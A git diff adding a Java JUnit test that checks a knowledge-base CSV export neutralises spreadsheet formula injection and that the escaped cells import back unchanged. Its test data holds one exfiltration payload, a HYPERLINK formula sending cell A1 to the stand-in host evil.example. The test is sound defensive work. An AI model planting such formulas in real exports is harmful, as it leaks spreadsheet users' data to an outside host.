@@ -11,8 +11,11 @@ import io.vertx.core.json.JsonArray;
 import io.vertx.core.json.JsonObject;
 import io.vertx.ext.web.client.HttpResponse;
 import io.vertx.junit5.VertxExtension;
+import java.util.HashMap;
+import java.util.List;
 import java.util.Map;
 import java.util.concurrent.TimeUnit;
+import java.util.function.Predicate;
 import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.DisplayName;
@@ -149,5 +152,105 @@ class KnowledgeImportApiTest {
     assertEquals(200, again.statusCode(), again.bodyAsString());
     assertEquals(before, server.string("SELECT string_agg(id || status || answer || questions::text, '|' "
       + "ORDER BY id) FROM knowledge_entries"));
+  }
+
+  private static JsonObject entry(String id, String title, JsonArray questions, String answer, JsonArray tags,
+                                  String category) {
+    return new JsonObject().put("id", id).put("locale", "en").put("title", title).put("questions", questions)
+      .put("answer", answer).put("tags", tags).put("category", category).put("status", "draft");
+  }
+
+  /** The CSV export's record for this id, by column name. */
+  private static Map<String, String> exported(List<CsvRecord> csv, String id) {
+    List<String> header = csv.get(0).fields();
+    CsvRecord record = csv.stream().filter(r -> r.fields().get(0).equals(id)).findFirst().orElseThrow();
+    Map<String, String> row = new HashMap<>();
+    for (int i = 0; i < header.size(); i++) {
+      row.put(header.get(i), record.fields().get(i));
+    }
+    return row;
+  }
+
+  /** The physical lines of the records whose first field passes, exactly as the file has them. */
+  private static String recordsOf(String text, List<CsvRecord> records, Predicate<String> wanted) {
+    String[] lines = text.split("\n", -1);
+    StringBuilder out = new StringBuilder();
+    for (int i = 0; i < records.size(); i++) {
+      int end = i + 1 < records.size() ? records.get(i + 1).line() - 1 : lines.length - 1;
+      if (wanted.test(records.get(i).fields().get(0))) {
+        for (int line = records.get(i).line() - 1; line < end; line++) {
+          out.append(lines[line]).append('\n');
+        }
+      }
+    }
+    return out.toString();
+  }
+
+  private static String injectionRows() throws Exception {
+    return server.string("SELECT string_agg(id || '/' || title || '/' || answer || '/' || questions::text || '/' "
+      + "|| tags::text || '/' || coalesce(category, '-'), E'\\n' ORDER BY id) FROM knowledge_entries "
+      + "WHERE id LIKE 'kb-inj-%'");
+  }
+
+  @Test
+  @DisplayName("CSV export puts a quote before cells a spreadsheet would run (= + - @ tab CR), and import takes it off")
+  void csvInjectionNeutralisedAndRoundTrips() throws Exception {
+    String hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for details\")";
+    String jsonl = String.join("\n",
+      entry("kb-inj-formula", "@SUM(1+1)", new JsonArray().add("=1+1").add("how much is -10% off"), hyperlink,
+        new JsonArray().add("+tag").add("sale"), "-cat").encode(),
+      entry("kb-inj-sale", "Spring sale", new JsonArray().add("is there a discount"),
+        "-10% off everything this week.", new JsonArray(), null).encode(),
+      entry("kb-inj-quotes", "'tis the season", new JsonArray().add("q"), "'=already quoted", new JsonArray(),
+        null).encode(),
+      entry("kb-inj-tab", "Tab", new JsonArray().add("q"), "\tTab first", new JsonArray(), null).encode(),
+      entry("kb-inj-cr", "CR", new JsonArray().add("q"), "\r\nA line break first", new JsonArray(), null).encode());
+    HttpResponse<Buffer> imported = admin.postText("/api/admin/kb/import?format=jsonl", "application/x-ndjson",
+      jsonl);
+    assertEquals(200, imported.statusCode(), imported.bodyAsString());
+    String before = injectionRows();
+
+    String text = admin.get("/api/admin/kb/export?format=csv").bodyAsString();
+    List<CsvRecord> csv = CsvRecord.parse(text);
+    Map<String, String> formula = exported(csv, "kb-inj-formula");
+    assertEquals("'" + hyperlink, formula.get("answer"));
+    assertEquals("'@SUM(1+1)", formula.get("title"));
+    assertEquals("'=1+1|how much is -10% off", formula.get("questions"));
+    assertEquals("'+tag|sale", formula.get("tags"));
+    assertEquals("'-cat", formula.get("category"));
+    assertEquals("'-10% off everything this week.", exported(csv, "kb-inj-sale").get("answer"));
+    assertEquals("'tis the season", exported(csv, "kb-inj-quotes").get("title"), "a quote before text stays as is");
+    assertEquals("''=already quoted", exported(csv, "kb-inj-quotes").get("answer"));
+    assertEquals("'\tTab first", exported(csv, "kb-inj-tab").get("answer"));
+    assertEquals("'\r\nA line break first", exported(csv, "kb-inj-cr").get("answer"));
+    for (CsvRecord record : csv) {
+      for (String cell : record.fields()) {
+        assertTrue(cell.isEmpty() || "=+-@\t\r".indexOf(cell.charAt(0)) < 0,
+          "line " + record.line() + " has a cell a spreadsheet would run: " + cell);
+      }
+    }
+
+    // The export imports back unchanged: each quote the export added is taken off, no other. (Only these rows:
+    // importing every entry again would add revisions other tests count.)
+    HttpResponse<Buffer> again = admin.postText("/api/admin/kb/import?format=csv", "text/csv",
+      recordsOf(text, csv, id -> id.equals("id") || id.startsWith("kb-inj-")));
+    assertEquals(200, again.statusCode(), again.bodyAsString());
+    assertEquals(before, injectionRows());
+    JsonObject sale = admin.get("/api/admin/kb/kb-inj-sale").bodyAsJsonObject();
+    assertEquals("-10% off everything this week.", sale.getString("answer"));
+    assertEquals(hyperlink, admin.get("/api/admin/kb/kb-inj-formula").bodyAsJsonObject().getString("answer"));
+
+    // A file made elsewhere: the quote comes off only before = + - @ tab or CR; a bare -10% is kept as typed.
+    String hand = "id,locale,title,answer\n"
+      + "kb-hand-1,en,Quoted formula,'=1+1\n"
+      + "kb-hand-2,en,Quoted word,'tis fine\n"
+      + "kb-hand-3,en,Bare minus,-10% off\n"
+      + "kb-hand-4,en,Lone quote,'\n";
+    HttpResponse<Buffer> handMade = admin.postText("/api/admin/kb/import?format=csv", "text/csv", hand);
+    assertEquals(200, handMade.statusCode(), handMade.bodyAsString());
+    assertEquals("=1+1", server.string("SELECT answer FROM knowledge_entries WHERE id = 'kb-hand-1'"));
+    assertEquals("'tis fine", server.string("SELECT answer FROM knowledge_entries WHERE id = 'kb-hand-2'"));
+    assertEquals("-10% off", server.string("SELECT answer FROM knowledge_entries WHERE id = 'kb-hand-3'"));
+    assertEquals("'", server.string("SELECT answer FROM knowledge_entries WHERE id = 'kb-hand-4'"));
   }
 }
